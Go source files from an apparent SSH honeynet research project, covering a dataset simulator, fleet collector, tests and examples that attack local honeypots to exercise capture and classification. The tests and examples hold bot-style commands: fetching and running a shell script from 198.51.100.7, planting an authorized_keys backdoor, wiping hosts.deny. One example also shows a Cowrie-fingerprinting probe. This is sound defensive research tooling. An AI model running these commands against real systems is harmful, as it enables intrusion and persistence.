			store.Sealing(filepath.Join(dir, e.Name())) {
			return true
		}
	}
	return false
}

// runFollow tails the store live (see store.Follow), printing each
// record — filtered by the optional predicate — as canonical JSONL.
// Ends cleanly on SIGINT/SIGTERM.
func runFollow(dir, pred string, interval time.Duration) error {
	var filter store.Filter
	if p := strings.TrimSpace(pred); p != "" {
		f, err := query.CompileFilter(p)
		if err != nil {
			if se, ok := err.(*query.SyntaxError); ok && se.Pos <= len(p) {
				fmt.Fprintf(os.Stderr, "  %s\n  %s^\n", p, strings.Repeat(" ", se.Pos))
			}
			return err
		}
		filter = f
	}
	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()
	w := bufio.NewWriter(os.Stdout)
	defer w.Flush()
	dec := &session.JSONDecoder{}
	err := store.Follow(ctx, dir, store.Options{}, interval, func(node string, seq uint64, line []byte) error {
		if filter != nil {
			var r session.Record
			if err := dec.Decode(line, &r); err != nil {
				return fmt.Errorf("%s seq %d: %w", node, seq, err)
			}
			if !filter(&r) {
				return nil
			}
		}
		if _, err := w.Write(line); err != nil {
			return err
		}
		if err := w.WriteByte('\n'); err != nil {
			return err
		}
		return w.Flush()
	})
	if errors.Is(err, context.Canceled) {
		return nil
	}
	return err
}

// runOne executes one statement and prints its result.
func runOne(src source, stmt string, csv bool) error {
	res, err := query.Run(src, stmt)
	if err != nil {
		// Positioned errors get a caret line so the offending token is
		// visible at a glance.
		if se, ok := err.(*query.SyntaxError); ok && se.Pos <= len(stmt) {
			fmt.Fprintf(os.Stderr, "  %s\n  %s^\n", stmt, strings.Repeat(" ", se.Pos))
		}
		return err
	}
	for _, line := range res.Explain {
		fmt.Println(line)
	}
	if res.Explain != nil {
		fmt.Println()
	}

	// SELECT * streams full records as canonical JSONL.
	if res.Records != nil || len(res.Columns) == 0 {
		w := bufio.NewWriter(os.Stdout)
		defer w.Flush()
		var buf []byte
		for _, r := range res.Records {
			buf, err = session.AppendJSON(buf[:0], r)
			if err != nil {
				return err
			}
			buf = append(buf, '\n')
			if _, err := w.Write(buf); err != nil {
				return err
			}
		}
		return w.Flush()
	}

	t := &report.Table{Headers: res.Columns}
	for _, row := range res.Rows {
		cells := make([]any, len(row))
		for i, v := range row {
			cells[i] = v.String()
		}
		t.AddRow(cells...)
	}
	if csv {
		fmt.Print(t.CSV())
	} else {
		fmt.Println(t)
	}
	return nil
}
