// Command hnsim generates the synthetic 33-month honeynet dataset (the
// substitute for the paper's unobtainable production traces) and writes
// it as JSON lines.
//
// Usage:
//
//	hnsim [-scale 1000] [-seed 42] [-out dataset.jsonl] [-months 33]
//
// At the default 1:1000 scale the full window yields roughly 550k SSH
// sessions with the paper's session-type mix.
package main

import (
	"bufio"
	"encoding/json"
	"flag"
	"fmt"
	"log"
	"os"
	"time"

	"honeynet/internal/botnet"
	"honeynet/internal/session"
	"honeynet/internal/simulate"
)

func main() {
	var (
		scale  = flag.Float64("scale", 1000, "scale divisor applied to paper-scale session rates")
		seed   = flag.Int64("seed", 42, "deterministic RNG seed")
		out    = flag.String("out", "", "output JSONL path (default stdout)")
		months = flag.Int("months", 0, "simulate only the first N months (0 = full 33-month window)")
		format = flag.String("format", "records", `output format: "records" (one session per line) or "cowrie" (Cowrie-compatible event log)`)
	)
	flag.Parse()

	sink := os.Stdout
	if *out != "" {
		f, err := os.Create(*out)
		if err != nil {
			log.Fatalf("hnsim: %v", err)
		}
		defer f.Close()
		sink = f
	}
	w := session.NewWriter(sink)

	var writeRec func(r *session.Record)
	switch *format {
	case "records":
		writeRec = func(r *session.Record) {
			if err := w.Write(r); err != nil {
				log.Fatalf("hnsim: writing record: %v", err)
			}
		}
	case "cowrie":
		bw := bufio.NewWriterSize(sink, 1<<20)
		defer bw.Flush()
		enc := json.NewEncoder(bw)
		writeRec = func(r *session.Record) {
			for _, ev := range r.CowrieEvents() {
				if err := enc.Encode(ev); err != nil {
					log.Fatalf("hnsim: writing cowrie events: %v", err)
				}
			}
		}
	default:
		log.Fatalf("hnsim: unknown format %q", *format)
	}

	cfg := simulate.Config{
		Scale:   *scale,
		Seed:    *seed,
		Discard: true,
		Sink:    writeRec,
	}
	if *months > 0 {
		cfg.End = botnet.WindowStart.AddDate(0, *months, 0)
	}
	start := time.Now()
	res, err := simulate.Run(cfg)
	if err != nil {
		log.Fatalf("hnsim: %v", err)
	}
	if err := w.Flush(); err != nil {
		log.Fatalf("hnsim: %v", err)
	}
	fmt.Fprintf(os.Stderr, "hnsim: %d sessions in %v (scale 1:%g, seed %d)\n",
		res.Sessions, time.Since(start).Round(time.Millisecond), *scale, *seed)
}
