// Command hnsim generates the synthetic 33-month honeynet dataset (the
// substitute for the paper's unobtainable production traces) and writes
// it as JSON lines, a Cowrie-compatible event log, or a sealed
// month-partitioned session store.
//
// Usage:
//
//	hnsim [-scale 1000] [-seed 42] [-out dataset.jsonl] [-store DIR] [-months 33]
//
// A -out path ending in .gz is gzip-compressed (~10x smaller on disk);
// hnanalyze -in reads either form transparently. -store writes the
// partitioned store format of internal/store instead: compressed,
// indexed segments that hnanalyze -store and honeynet.Open query
// without slurping the dataset into memory.
//
// At the default 1:1000 scale the full window yields roughly 550k SSH
// sessions with the paper's session-type mix.
package main

import (
	"bufio"
	"compress/gzip"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"log"
	"os"
	"strings"
	"time"

	"honeynet/internal/botnet"
	"honeynet/internal/session"
	"honeynet/internal/simulate"
	"honeynet/internal/store"
)

func main() {
	var (
		scale    = flag.Float64("scale", 1000, "scale divisor applied to paper-scale session rates")
		seed     = flag.Int64("seed", 42, "deterministic RNG seed")
		out      = flag.String("out", "", "output JSONL path, gzip-compressed when it ends in .gz (default stdout; empty when -store is set)")
		storeDir = flag.String("store", "", "write a month-partitioned session store at this directory instead of (or alongside) -out")
		codec    = flag.String("store-codec", "", `block codec for -store segments: "lz" (default) or "flate" (v1-compatible)`)
		segfmt   = flag.String("store-format", "", `segment layout for -store segments: "v2" (row blocks, default) or "v3" (columnar stripes; fastest projected scans)`)
		months   = flag.Int("months", 0, "simulate only the first N months (0 = full 33-month window)")
		format   = flag.String("format", "records", `output format: "records" (one session per line) or "cowrie" (Cowrie-compatible event log)`)
	)
	flag.Parse()

	var sinks []func(r *session.Record)
	var flushes []func() error

	if *storeDir != "" {
		st, err := store.Open(*storeDir, store.Options{Codec: *codec, Format: *segfmt})
		if err != nil {
			log.Fatalf("hnsim: store: %v", err)
		}
		sinks = append(sinks, func(r *session.Record) {
			if err := st.Append(r); err != nil {
				log.Fatalf("hnsim: store append: %v", err)
			}
		})
		flushes = append(flushes, st.Close)
	}

	if *out != "" || *storeDir == "" {
		var sink *os.File = os.Stdout
		if *out != "" {
			f, err := os.Create(*out)
			if err != nil {
				log.Fatalf("hnsim: %v", err)
			}
			defer f.Close()
			sink = f
		}
		var w io.Writer = sink
		if strings.HasSuffix(*out, ".gz") {
			gz := gzip.NewWriter(sink)
			w = gz
			flushes = append(flushes, gz.Close)
		}
		switch *format {
		case "records":
			sw := session.NewWriter(w)
			sinks = append(sinks, func(r *session.Record) {
				if err := sw.Write(r); err != nil {
					log.Fatalf("hnsim: writing record: %v", err)
				}
			})
			flushes = append([]func() error{sw.Flush}, flushes...)
		case "cowrie":
			bw := bufio.NewWriterSize(w, 1<<20)
			enc := json.NewEncoder(bw)
			sinks = append(sinks, func(r *session.Record) {
				for _, ev := range r.CowrieEvents() {
					if err := enc.Encode(ev); err != nil {
						log.Fatalf("hnsim: writing cowrie events: %v", err)
					}
				}
			})
			flushes = append([]func() error{bw.Flush}, flushes...)
		default:
			log.Fatalf("hnsim: unknown format %q", *format)
		}
	}

	cfg := simulate.Config{
		Scale:   *scale,
		Seed:    *seed,
		Discard: true,
		Sink: func(r *session.Record) {
			for _, s := range sinks {
				s(r)
			}
		},
	}
	if *months > 0 {
		cfg.End = botnet.WindowStart.AddDate(0, *months, 0)
	}
	start := time.Now()
	res, err := simulate.Run(cfg)
	if err != nil {
		log.Fatalf("hnsim: %v", err)
	}
	for _, flush := range flushes {
		if err := flush(); err != nil {
			log.Fatalf("hnsim: %v", err)
		}
	}
	fmt.Fprintf(os.Stderr, "hnsim: %d sessions in %v (scale 1:%g, seed %d)\n",
		res.Sessions, time.Since(start).Round(time.Millisecond), *scale, *seed)
}
