// Command hncollect is the fleet collector: it accepts session streams
// from honeypotd edge nodes (-forward) and writes one store shard per
// node under a fleet directory that hnanalyze -store queries unchanged.
//
// Usage:
//
//	hncollect -dir fleet/ [-listen :7070] [-admin :9091]
//	          [-store-codec lz] [-store-max-batch N] [-store-max-delay D]
//	          [-sync-ack=true] [-live=true]
//
// Delivery is at-least-once from the edges and exactly-once in the
// shards: each edge resumes from the cursor the collector advertises at
// connect, and redelivered records are dropped by sequence. With
// -sync-ack (the default) an acknowledgment implies the record is
// fsynced here, so a collector crash never loses acked data. SIGTERM
// seals every shard so the fleet directory is immediately queryable.
//
// With -live (the default) every committed record also feeds the
// streaming analytics pipeline — fleet-wide online classification,
// cluster assignment, and campaign waves — surfaced as honeynet_live_*
// on /metrics and as a JSON snapshot on /live.
package main

import (
	"flag"
	"fmt"
	"log"
	"net"
	"net/http"
	"os"
	"os/signal"
	"syscall"

	"honeynet/internal/classify"
	"honeynet/internal/fleet"
	"honeynet/internal/live"
	"honeynet/internal/obs"
	"honeynet/internal/session"
	"honeynet/internal/store"
)

func main() {
	var (
		dir      = flag.String("dir", "", "fleet directory to write per-node shards under (required)")
		listen   = flag.String("listen", ":7070", "address to accept edge connections on")
		admin    = flag.String("admin", "", "admin listen address serving /metrics, /healthz, /live (empty to disable)")
		codec    = flag.String("store-codec", "", `block codec for newly sealed shard segments: "lz" (default) or "flate"`)
		batch    = flag.Int("store-max-batch", 0, "records per group-commit WAL write in each shard (0 = default)")
		delay    = flag.Duration("store-max-delay", 0, "longest a record may wait in a shard's group-commit batch (0 = default)")
		syncAck  = flag.Bool("sync-ack", true, "fsync a shard's WAL before acknowledging, so acked records survive a collector crash")
		liveOn   = flag.Bool("live", true, "run the streaming analytics pipeline over committed records (honeynet_live_* metrics, /live on -admin)")
		liveSeed = flag.Int64("live-seed", 0, "seed for the live cluster engine's sampling (0 = default)")
	)
	flag.Parse()
	if *dir == "" {
		log.Fatal("hncollect: -dir is required")
	}

	var pipeline *live.Pipeline
	if *liveOn {
		pipeline = live.NewPipeline(live.Options{Seed: *liveSeed})
	}
	opts := fleet.ServerOptions{
		Store:   store.Options{Codec: *codec, MaxBatch: *batch, MaxDelay: *delay},
		SyncAck: *syncAck,
	}
	if pipeline != nil {
		opts.OnRecord = func(_ string, r *session.Record) { pipeline.Observe(r) }
	}
	srv, err := fleet.NewServer(*dir, opts)
	if err != nil {
		log.Fatalf("hncollect: %v", err)
	}
	addr, err := srv.Listen(*listen)
	if err != nil {
		log.Fatalf("hncollect: %v", err)
	}
	fmt.Printf("hncollect: collecting on %s into %s (%d shards resumed)\n", addr, *dir, srv.Nodes())

	reg := obs.NewRegistry()
	srv.Register(reg)
	var routes []obs.Route
	if pipeline != nil {
		pipeline.Register(reg)
		classify.Register(reg)
		routes = append(routes, obs.Route{Pattern: "/live", Handler: pipeline.Handler()})
	}
	var adminSrv *http.Server
	if *admin != "" {
		mux := obs.AdminMux(reg, func() error { return nil }, routes...)
		ln, err := net.Listen("tcp", *admin)
		if err != nil {
			log.Fatalf("hncollect: admin: %v", err)
		}
		adminSrv = &http.Server{Handler: mux}
		go func() { _ = adminSrv.Serve(ln) }()
		fmt.Printf("hncollect: admin on http://%s/metrics\n", ln.Addr())
	}

	sig := make(chan os.Signal, 1)
	signal.Notify(sig, os.Interrupt, syscall.SIGTERM)
	<-sig
	fmt.Fprintln(os.Stderr, "hncollect: sealing shards...")
	if adminSrv != nil {
		adminSrv.Close()
	}
	nodes, records := srv.Nodes(), srv.Len()
	if err := srv.Close(); err != nil {
		fmt.Fprintf(os.Stderr, "hncollect: close: %v\n", err)
	}
	fmt.Fprintf(os.Stderr, "hncollect: %d records across %d node shards sealed in %s\n", records, nodes, *dir)
}
