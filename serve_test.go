package honeynet

import (
	"encoding/json"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"honeynet/internal/sessionlog"
	"honeynet/internal/sshclient"
)

// TestServeEndToEnd boots a full node with an admin endpoint, drives one
// SSH session through it, and verifies the scrape and the drain
// snapshot reflect that session.
func TestServeEndToEnd(t *testing.T) {
	logPath := filepath.Join(t.TempDir(), "sessions.jsonl")
	srv, err := Serve(ServeConfig{
		SSHAddr:      "127.0.0.1:0",
		TelnetAddr:   "127.0.0.1:0",
		AdminAddr:    "127.0.0.1:0",
		LogPath:      logPath,
		Timeout:      10 * time.Second,
		DrainTimeout: 5 * time.Second,
	})
	if err != nil {
		t.Fatal(err)
	}
	defer srv.Close()

	if !strings.Contains(srv.AdminAddr(), ":") {
		t.Fatalf("admin addr = %q", srv.AdminAddr())
	}
	if body := adminGet(t, srv, "/healthz"); body != "ok\n" {
		t.Errorf("healthz = %q", body)
	}

	cli, err := sshclient.Dial(srv.SSHAddr(), sshclient.Config{User: "root", Password: "admin123"})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := cli.Exec("wget http://198.51.100.7/x; uname"); err != nil {
		t.Fatal(err)
	}
	cli.Close()

	// The record lands in the log at session teardown, which races the
	// client's close; poll for the write before scraping.
	deadline := time.Now().Add(5 * time.Second)
	for srv.Log().Written() == 0 && time.Now().Before(deadline) {
		time.Sleep(10 * time.Millisecond)
	}

	metrics := adminGet(t, srv, "/metrics")
	for _, line := range []string{
		`honeynet_node_connections_total{proto="ssh"} 1`,
		`honeynet_node_auth_total{result="ok"} 1`,
		"honeynet_node_commands_total 1",
		"honeynet_node_downloads_total 1",
		"honeynet_sessionlog_written_total 1",
		"honeynet_guard_active_connections 0",
		`honeynet_guard_shed_total{reason="per_ip"} 0`,
		"honeynet_session_duration_seconds_count 1",
	} {
		if !strings.Contains(metrics, line) {
			t.Errorf("metrics missing %q", line)
		}
	}

	forced, err := srv.Drain("test")
	if err != nil {
		t.Fatalf("drain: %v (forced %d)", err, forced)
	}

	// The drain snapshot trailer is in the log and carries the counters.
	f, err := os.Open(logPath)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	snaps, err := sessionlog.ReadSnapshots(f)
	if err != nil {
		t.Fatal(err)
	}
	if len(snaps) != 1 || snaps[0].Reason != "test" {
		t.Fatalf("snapshots = %+v", snaps)
	}
	if snaps[0].Metrics[`honeynet_node_connections_total{proto="ssh"}`] != 1 {
		t.Errorf("snapshot counters = %v", snaps[0].Metrics)
	}

	// The record itself is loadable through the facade.
	f2, err := os.Open(logPath)
	if err != nil {
		t.Fatal(err)
	}
	defer f2.Close()
	p, err := Load(f2)
	if err != nil {
		t.Fatal(err)
	}
	if p.World.Store.Len() != 1 {
		t.Errorf("loaded records = %d, want 1", p.World.Store.Len())
	}
	if len(p.MissingJoins) == 0 {
		t.Error("loaded pipeline must flag missing join databases")
	}
}

func adminGet(t *testing.T, srv *Server, path string) string {
	t.Helper()
	resp, err := http.Get("http://" + srv.AdminAddr() + path)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// TestFunctionalOptionsMatchLegacyStruct: the deprecated SimOptions shim
// and the new options must configure identical runs.
func TestFunctionalOptionsMatchLegacyStruct(t *testing.T) {
	pNew, err := Simulate(WithScale(200000), WithSeed(7), WithWorkers(2))
	if err != nil {
		t.Fatal(err)
	}
	pOld, err := Simulate(SimOptions{Scale: 200000, Seed: 7})
	if err != nil {
		t.Fatal(err)
	}
	a, b := pNew.World.Store.Len(), pOld.World.Store.Len()
	if a != b || a == 0 {
		t.Fatalf("session counts differ: options=%d struct=%d", a, b)
	}
	ra, rb := pNew.World.Store.All(), pOld.World.Store.All()
	for i := range ra {
		if ra[i].ClientIP != rb[i].ClientIP || !ra[i].Start.Equal(rb[i].Start) {
			t.Fatalf("record %d differs between option styles", i)
		}
	}
}

// TestWithObserverRecordsPhases: an attached tracer sees the simulate
// phases without changing the dataset.
func TestWithObserverRecordsPhases(t *testing.T) {
	tr := NewTracer()
	p, err := Simulate(WithScale(200000), WithSeed(7), WithObserver(tr))
	if err != nil {
		t.Fatal(err)
	}
	if p.World.Store.Len() == 0 {
		t.Fatal("empty simulation")
	}
	names := map[string]bool{}
	for _, ph := range tr.Phases() {
		names[ph.Name] = true
	}
	if !names["simulate"] || !names["simulate.replay"] {
		t.Errorf("phases = %v", names)
	}
}

// TestServeStoreEndToEnd boots a store-only node (no session log),
// drives one SSH session, and verifies the record is queryable through
// the store after drain and that the store's metrics are scraped.
func TestServeStoreEndToEnd(t *testing.T) {
	storeDir := filepath.Join(t.TempDir(), "store")
	srv, err := Serve(ServeConfig{
		SSHAddr:      "127.0.0.1:0",
		AdminAddr:    "127.0.0.1:0",
		StorePath:    storeDir,
		Timeout:      10 * time.Second,
		DrainTimeout: 5 * time.Second,
	})
	if err != nil {
		t.Fatal(err)
	}
	defer srv.Close()
	if srv.Log() != nil {
		t.Fatal("store-only node must not have a session-log writer")
	}

	cli, err := sshclient.Dial(srv.SSHAddr(), sshclient.Config{User: "root", Password: "admin123"})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := cli.Exec("echo pwned > /tmp/x; uname"); err != nil {
		t.Fatal(err)
	}
	cli.Close()

	// The record lands in the store at session teardown; poll for it.
	deadline := time.Now().Add(5 * time.Second)
	for srv.store.Len() == 0 && time.Now().Before(deadline) {
		time.Sleep(10 * time.Millisecond)
	}

	metrics := adminGet(t, srv, "/metrics")
	for _, line := range []string{
		"honeynet_store_records 1",
		"honeynet_store_appended_total 1",
		"honeynet_store_segments 0", // nothing sealed yet
	} {
		if !strings.Contains(metrics, line) {
			t.Errorf("metrics missing %q", line)
		}
	}

	// Drain seals the store: the partitions must be immediately
	// queryable through the facade.
	if _, err := srv.Drain("test"); err != nil {
		t.Fatalf("drain: %v", err)
	}
	p, err := Open(storeDir)
	if err != nil {
		t.Fatal(err)
	}
	if p.World.Store.Len() != 1 {
		t.Fatalf("store pipeline holds %d records, want 1", p.World.Store.Len())
	}
	r := p.World.Store.All()[0]
	if r.Kind().String() != "command-execution" {
		t.Errorf("recorded session kind = %v", r.Kind())
	}
	if len(p.MissingJoins) == 0 {
		t.Error("store-loaded pipeline must flag missing join databases")
	}
}

// TestSimulateWithStoreThenOpen: WithStore persists a simulation and
// Open rebuilds a pipeline whose records match the original exactly.
func TestSimulateWithStoreThenOpen(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "store")
	p1, err := Simulate(WithScale(200000), WithSeed(7), WithStore(dir))
	if err != nil {
		t.Fatal(err)
	}
	p2, err := Open(dir, WithWorkers(3))
	if err != nil {
		t.Fatal(err)
	}
	a, b := p1.World.Store.All(), p2.World.Store.All()
	if len(a) != len(b) || len(a) == 0 {
		t.Fatalf("record counts differ: simulated=%d opened=%d", len(a), len(b))
	}
	for i := range a {
		if a[i].ID != b[i].ID || a[i].ClientIP != b[i].ClientIP || !a[i].Start.Equal(b[i].Start) {
			t.Fatalf("record %d differs after store round trip", i)
		}
	}
}

// TestServeLivePipeline drives a classifiable session through a full
// node and checks the streaming analytics pipeline surfaces it on
// /live and /metrics.
func TestServeLivePipeline(t *testing.T) {
	srv, err := Serve(ServeConfig{
		SSHAddr:      "127.0.0.1:0",
		AdminAddr:    "127.0.0.1:0",
		LogOutput:    io.Discard,
		Timeout:      10 * time.Second,
		DrainTimeout: 5 * time.Second,
	})
	if err != nil {
		t.Fatal(err)
	}
	defer srv.Close()
	if srv.Live() == nil {
		t.Fatal("live pipeline should be on by default")
	}

	cli, err := sshclient.Dial(srv.SSHAddr(), sshclient.Config{User: "root", Password: "admin123"})
	if err != nil {
		t.Fatal(err)
	}
	cmd := `cd ~ && rm -rf .ssh && echo "ssh-rsa AAA mdrfckr">>.ssh/authorized_keys; echo > /etc/hosts.deny`
	if _, err := cli.Exec(cmd); err != nil {
		t.Fatal(err)
	}
	cli.Close()

	// Observe runs at session teardown, racing the client close; poll.
	deadline := time.Now().Add(5 * time.Second)
	for srv.Live().Snapshot().Classified == 0 && time.Now().Before(deadline) {
		time.Sleep(10 * time.Millisecond)
	}
	snap := srv.Live().Snapshot()
	if snap.Sessions == 0 || snap.Classified != 1 {
		t.Fatalf("live snapshot sessions=%d classified=%d", snap.Sessions, snap.Classified)
	}
	if len(snap.Categories) != 1 || snap.Categories[0].Name == "unknown" {
		t.Fatalf("live categories = %+v", snap.Categories)
	}

	// /live serves the same snapshot as JSON.
	var doc LiveSnapshot
	if err := json.Unmarshal([]byte(adminGet(t, srv, "/live")), &doc); err != nil {
		t.Fatalf("bad /live JSON: %v", err)
	}
	if doc.Classified != 1 {
		t.Fatalf("/live classified = %d", doc.Classified)
	}

	metrics := adminGet(t, srv, "/metrics")
	for _, line := range []string{
		"honeynet_live_sessions_total",
		"honeynet_live_classified_total 1",
		"honeynet_live_rules_skipped_total",
		"honeynet_classify_literal_skip_total",
	} {
		if !strings.Contains(metrics, line) {
			t.Errorf("metrics missing %q", line)
		}
	}
}

// TestServeLiveOff: LiveOff disables the pipeline and the /live route.
func TestServeLiveOff(t *testing.T) {
	srv, err := Serve(ServeConfig{
		SSHAddr:   "127.0.0.1:0",
		AdminAddr: "127.0.0.1:0",
		LogOutput: io.Discard,
		LiveOff:   true,
	})
	if err != nil {
		t.Fatal(err)
	}
	defer srv.Close()
	if srv.Live() != nil {
		t.Fatal("LiveOff must disable the pipeline")
	}
	resp, err := http.Get("http://" + srv.AdminAddr() + "/live")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusNotFound {
		t.Fatalf("/live with LiveOff = %d, want 404", resp.StatusCode)
	}
}
