// Campaign: drive the modeled mdrfckr and Mirai-loader bots over REAL
// TCP+SSH against a three-node honeynet, collect the session records at
// a central collector, and classify what was captured — the full paper
// pipeline in miniature, with actual sockets instead of the simulator.
package main

import (
	"fmt"
	"log"
	"math/rand"
	"time"

	"honeynet/internal/botnet"
	"honeynet/internal/classify"
	"honeynet/internal/collector"
	"honeynet/internal/honeypot"
	"honeynet/internal/session"
	"honeynet/internal/simulate"
	"honeynet/internal/sshclient"

	"honeynet/internal/asdb"
)

func main() {
	store := collector.NewStore()

	// A small honeynet: three identically configured nodes.
	var addrs []string
	for i := 0; i < 3; i++ {
		node, err := honeypot.New(honeypot.Config{
			ID:       fmt.Sprintf("hp-%d", i+1),
			Download: simulate.Fetcher(),
			Sink:     store.Sink,
		})
		if err != nil {
			log.Fatal(err)
		}
		addr, err := node.ListenSSH("127.0.0.1:0")
		if err != nil {
			log.Fatal(err)
		}
		defer node.Close()
		addrs = append(addrs, addr)
	}
	fmt.Println("honeynet nodes:", addrs)

	// Pick the two campaign models from the catalog.
	env := botnet.NewEnv(asdb.NewRegistry(1, 100))
	rng := rand.New(rand.NewSource(7))
	day := botnet.D(2022, 6, 15)
	var mdrfckr, mirai *botnet.Bot
	for _, b := range botnet.Catalog() {
		switch b.Name {
		case "mdrfckr":
			mdrfckr = b
		case "mirai_loader":
			mirai = b
		}
	}

	// Each bot attacks every node once, over the wire.
	for _, bot := range []*botnet.Bot{mdrfckr, mirai} {
		for _, addr := range addrs {
			atk := bot.Gen(bot, env, rng, day)
			cli, err := sshclient.Dial(addr, sshclient.Config{
				User: atk.User, Password: atk.Password, Version: atk.ClientVersion,
				Timeout: 10 * time.Second,
			})
			if err != nil {
				log.Fatalf("%s vs %s: %v", bot.Name, addr, err)
			}
			for _, cmd := range atk.Commands {
				if _, err := cli.Exec(cmd); err != nil {
					log.Fatalf("%s exec: %v", bot.Name, err)
				}
			}
			cli.Close()
		}
	}

	// Give the nodes a moment to seal the records.
	deadline := time.Now().Add(3 * time.Second)
	for store.Len() < 6 && time.Now().Before(deadline) {
		time.Sleep(20 * time.Millisecond)
	}

	// Classify what the honeynet captured.
	cls := classify.New()
	fmt.Printf("\n%-10s %-18s %-9s %-6s %-5s\n", "honeypot", "category", "kind", "state", "drops")
	for _, r := range store.All() {
		if r.Kind() != session.CommandExec {
			continue
		}
		fmt.Printf("%-10s %-18s %-9s %-6v %-5d\n",
			r.HoneypotID, cls.Classify(r.CommandText()), r.Kind(), r.StateChanged, len(r.DroppedHashes))
	}
}
