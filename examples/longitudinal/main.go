// Longitudinal: regenerate the 33-month synthetic dataset at a small
// scale and print the headline longitudinal findings — the dataset mix
// (section 3.3), the behavioral shift of Figure 1, the top scouts of
// Figure 2, and the top passwords of Figure 10.
package main

import (
	"fmt"
	"log"
	"time"

	"honeynet/internal/analysis"
	"honeynet/internal/core"
	"honeynet/internal/simulate"
)

func main() {
	start := time.Now()
	p, err := core.Simulate(simulate.Config{Scale: 5000, Seed: 42})
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("simulated %d sessions across 33 months in %v (scale 1:5000)\n\n",
		p.World.Store.Len(), time.Since(start).Round(time.Millisecond))

	w := p.World
	fmt.Println(analysis.Stats(w).Table())
	fmt.Println(analysis.Fig1Table(analysis.Fig1(w)))
	fmt.Println(analysis.SharesTable("Figure 2: non-state-changing sessions, top bots", analysis.Fig2(w), 5))
	f10 := analysis.Fig10(w, 5)
	fmt.Println(f10.Table())
	fmt.Printf("dreambox/vertex25ektks123 monthly correlation: %.2f (the synchronized TV-box botnet)\n",
		f10.Correlation("dreambox", "vertex25ektks123"))
}
