// Fingerprint: reproduce the honeypot-detection scenario of section 8.
// An attacker probes a host with Cowrie's default account "phil" (and
// the pre-2020 default "richard"): a successful phil login is a strong
// honeypot signal, so the attacker disconnects immediately without
// running a single command — exactly the >90% no-command pattern the
// paper observes. The defender side then surfaces the probes in the
// Figure 11 analysis.
package main

import (
	"errors"
	"fmt"
	"log"
	"time"

	"honeynet/internal/analysis"
	"honeynet/internal/classify"
	"honeynet/internal/collector"
	"honeynet/internal/honeypot"
	"honeynet/internal/sshclient"
)

func main() {
	store := collector.NewStore()
	node, err := honeypot.New(honeypot.Config{ID: "hp-fp", Sink: store.Sink})
	if err != nil {
		log.Fatal(err)
	}
	addr, err := node.ListenSSH("127.0.0.1:0")
	if err != nil {
		log.Fatal(err)
	}
	defer node.Close()

	// --- Attacker side -------------------------------------------------
	probe := func(user string) {
		cli, err := sshclient.Dial(addr, sshclient.Config{User: user, Password: "probe123"})
		switch {
		case err == nil:
			fmt.Printf("probe %-8s -> LOGIN ACCEPTED: this is a Cowrie honeypot; disconnecting\n", user)
			cli.Close() // no commands: don't feed the trap
		case errors.Is(err, sshclient.ErrAuthFailed):
			fmt.Printf("probe %-8s -> rejected (default not present)\n", user)
		default:
			log.Fatal(err)
		}
	}
	probe("richard") // pre-2020 Cowrie default: fails on modern deployments
	probe("phil")    // post-2020 default: succeeds => honeypot identified

	// A regular bot, for contrast, logs in as root and works the shell.
	cli, err := sshclient.Dial(addr, sshclient.Config{User: "root", Password: "hunter2"})
	if err != nil {
		log.Fatal(err)
	}
	if _, err := cli.Exec(`echo -e "\x6F\x6B"`); err != nil {
		log.Fatal(err)
	}
	cli.Close()

	// --- Defender side -------------------------------------------------
	waitFor(store, 3)
	w := &analysis.World{Store: store, Classifier: classify.New()}
	f11 := analysis.Fig11(w)
	fmt.Println()
	fmt.Println(f11.Table())
	fmt.Printf("phil sessions: %d, of which %d ran no commands (fingerprinting signature)\n",
		f11.PhilSessions, f11.PhilNoCommands)
}

// waitFor polls until n session records arrived (they are sealed
// asynchronously as connections close).
func waitFor(store *collector.Store, n int) {
	deadline := time.Now().Add(3 * time.Second)
	for store.Len() < n && time.Now().Before(deadline) {
		time.Sleep(10 * time.Millisecond)
	}
}
