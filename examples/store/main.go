// Store: run a honeypot node that sinks sessions straight into the
// embedded month-partitioned session store, attack it over real SSH,
// then reopen the sealed store two ways — through the honeynet facade
// for the full analysis pipeline, and through the hnquery DSL for
// declarative queries whose predicate pushdown is visible via EXPLAIN.
package main

import (
	"fmt"
	"log"
	"os"
	"strings"
	"time"

	"honeynet"
	"honeynet/internal/query"
	"honeynet/internal/session"
	"honeynet/internal/sshclient"
	"honeynet/internal/store"
)

func main() {
	dir, err := os.MkdirTemp("", "honeynet-store-*")
	if err != nil {
		log.Fatal(err)
	}
	defer os.RemoveAll(dir)

	// A store-only node: no JSONL session log, every record appended to
	// the store's WAL and sealed into per-month segments on drain. The
	// store knobs are the write-path tuning surface: the block codec
	// for sealed segments and the group-commit batch bounds (one WAL
	// write and fsync is amortized over up to StoreMaxBatch records or
	// StoreMaxDelay of arrivals, whichever comes first).
	srv, err := honeynet.Serve(honeynet.ServeConfig{
		SSHAddr:       "127.0.0.1:0",
		StorePath:     dir,
		StoreCodec:    store.CodecLZ,
		StoreMaxBatch: 256,
		StoreMaxDelay: 2 * time.Millisecond,
	})
	if err != nil {
		log.Fatal(err)
	}
	fmt.Println("honeypot listening on", srv.SSHAddr(), "— storing to", dir)

	// Attack it the way a typical loader bot does.
	cli, err := sshclient.Dial(srv.SSHAddr(), sshclient.Config{User: "root", Password: "admin"})
	if err != nil {
		log.Fatal(err)
	}
	for _, cmd := range []string{
		`uname -a`,
		`cd /tmp; wget http://198.51.100.7/bins.sh; sh bins.sh`,
	} {
		if _, err := cli.Exec(cmd); err != nil {
			log.Fatal(err)
		}
	}
	cli.Close()

	// The record is appended at session teardown, which races our
	// client close; give it a moment before draining.
	for i := 0; i < 500; i++ {
		time.Sleep(10 * time.Millisecond)
		if p, err := honeynet.Open(dir); err == nil && p.World.Store.Len() > 0 {
			break
		}
	}

	// Drain seals the WAL into immutable segments and commits the
	// manifest; the directory is now a queryable dataset.
